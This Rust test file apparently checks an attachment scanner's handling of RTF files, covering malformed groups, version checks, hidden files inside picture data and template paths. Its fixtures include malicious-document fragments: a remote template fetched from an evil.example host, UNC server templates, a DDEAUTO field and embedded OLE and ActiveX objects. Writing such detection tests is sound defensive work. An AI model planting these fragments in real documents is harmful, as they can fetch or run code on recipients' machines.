//! RTF.

use chat_attachments::{Finding, Reason, fixture};

use crate::support::{assert_found, assert_refused, judged};

#[test]
fn groups_must_be_balanced() {
    for text in [
        r"{\rtf1 a",
        r"{\rtf1 {a}",
        r"{\rtf1 \}",
        r"{\rtf1 a\",
        r"{\rtf1{\bin99999 }}",
    ] {
        assert_refused(
            text.as_bytes(),
            "a.rtf",
            Reason::Damaged,
            "a Rich Text document",
        );
    }
    for text in [r"{\rtf1 a}", r"{\rtf1\{\}\\ {a}}", "{\\rtf1 a}\r\n\0"] {
        let judgement = judged(text.as_bytes(), "a.rtf");
        assert!(
            judgement.is_accepted() && judgement.findings.is_empty(),
            "{text}"
        );
    }
}

#[test]
fn the_version_may_be_missing_or_zero_and_no_other() {
    for start in [
        r"{\rtf\ansi",
        r"{\rtf0\mac",
        r"{\rtf0 ",
        "{\\rtf\r\n",
        r"{\rtf{\info}",
    ] {
        let judgement = judged(format!("{start} a}}").as_bytes(), "a.rtf");
        assert!(judgement.is_accepted(), "{start}");
        // The rest is inspected anyway.
        let object = format!(r"{start} {{\object{{\*\objdata 0105}}}}}}");
        assert_found(object.as_bytes(), "a.rtf", &[Finding::OleObject]);
    }
    for start in [
        r"{\rt\ansi",
        r"{\rtf2\ansi",
        r"{\rtfx\ansi",
        r"{\rtf01\ansi",
        r"{\rtf-1\ansi",
    ] {
        let text = format!("{start} a}}");
        let what = "a Rich Text file of an unknown version";
        assert_refused(text.as_bytes(), "a.rtf", Reason::NotAccepted, what);
    }
}

#[test]
fn objects_binaries_templates_and_dde_are_found() {
    let cases: [(&str, &[Finding]); 9] = [
        (r"{\rtf1{\object{\*\objdata 0105}}}", &[Finding::OleObject]),
        (r"{\rtf1{\object\objautlink}}", &[Finding::OleObject]),
        (r"{\rtf1{\object\objocx}}", &[Finding::ActiveX]),
        (r"{\rtf1\bin3 }}}x}", &[Finding::BinaryData]),
        (
            r"{\rtf1{\*\template http://evil.example/a.dotm}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r"{\rtf1{\*\template \\\\server\\a.dotm}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r"{\rtf1{\*\template \u104?ttp}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r"{\rtf1{\*\template {}\\\\server\\a.dotm}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r#"{\rtf1{\field{\*\fldinst {\lang1 DDEAUTO "a"}}}}"#,
            &[Finding::Dde],
        ),
    ];
    for (text, findings) in cases {
        assert_found(text.as_bytes(), "a.rtf", findings);
    }
}

/// Some programs write a picture's raw bytes.
#[test]
fn raw_bytes_of_a_picture_are_not_a_finding() {
    let with = |head: &str, bytes: &[u8], tail: &str| {
        let head = format!(r"{{\rtf1 a{{{head}\bin{} ", bytes.len());
        let text = [head.as_bytes(), bytes, tail.as_bytes(), b"}"].concat();
        judged(&text, "a.rtf")
    };
    let (png, jpeg) = (fixture::png(4, 3), fixture::jpeg());
    let long = [jpeg.as_slice(), &[7; 50_000]].concat();
    let hiding = |word: &str| [jpeg.as_slice(), &[7; 20_000], word.as_bytes()].concat();
    for (head, bytes) in [
        (r"\pict\pngblip\picw9", &png),
        (r"\pict\jpegblip", &jpeg),
        (r"\pict{\*\picprop{\sp{\sn a}{\sv 1}}}\jpegblip", &long),
    ] {
        let judgement = with(head, bytes, "\r\n}");
        assert!(judgement.is_accepted(), "{head}: {judgement:?}");
        assert_eq!(judgement.findings, [], "{head}");
    }
    for (head, bytes, tail) in [
        (r"\pict\pngblip", &jpeg, "}"),
        (r"\pict\wmetafile8", &png, "}"),
        (r"\picture\pngblip", &png, "}"),
        (r"\pict{\pngblip", &png, "}}"),
        (r"\pict\{\pngblip", &png, "}"),
        (r"\pict\pngblip", &png, r"\b}"),
        (r"\pict\pngblip", &png[..4].to_vec(), "}"),
        (r"\other\jpegblip", &jpeg, "}"),
        (r"\pict\jpegblip", &hiding(r"{\object\objdata 01}"), "}"),
        (r"\pict\jpegblip", &hiding(r"\fldinst DDE"), "}"),
        (&format!(r"\pict\jpegblip{}", " ".repeat(1_024)), &jpeg, "}"),
    ] {
        let judgement = with(head, bytes, tail);
        assert_eq!(judgement.findings, [Finding::BinaryData], "{head} {tail}");
    }
    // It may contain nothing else either, at any distance.
    let far = [jpeg.as_slice(), &[7; 300_000], b"%PDF-1.7", &[7; 300_000]].concat();
    let judgement = with(r"\pict\jpegblip", &far, "}");
    assert_eq!(judgement.findings, [Finding::BinaryData]);
    let judgement = with(r"\pict\jpegblip", &hiding("%PDF-1.7"), "}");
    assert_eq!(judgement.refusal().unwrap().reason, Reason::HiddenFile);
}

#[test]
fn ordinary_documents_have_no_findings() {
    let cases = [
        r#"{\rtf1{\field{\*\fldinst HYPERLINK "http://a"}}}"#,
        r"{\rtf1\listtemplateid-1\bindata}",
    ];
    for text in cases {
        let judgement = judged(text.as_bytes(), "a.rtf");
        assert!(
            judgement.is_accepted() && judgement.findings.is_empty(),
            "{text} {judgement:?}"
        );
    }
}

#[test]
fn a_template_beyond_the_inspected_bytes_is_not_local() {
    for blanks in ["\r\n", " "] {
        let target = format!("{}http://evil.example/a.dotm", blanks.repeat(600));
        let text = format!("{{\\rtf1{{\\*\\template {target}}}}}");
        assert_found(text.as_bytes(), "a.rtf", &[Finding::ExternalTemplate]);
    }
}

#[test]
fn a_template_on_the_author_s_drive_is_reported_and_accepted() {
    let judgement = judged(br"{\rtf1{\*\template C:\\Templates\\letter.dot}}", "a.rtf");
    assert!(judgement.is_accepted());
    assert_eq!(judgement.findings, [Finding::LocalTemplate]);
}
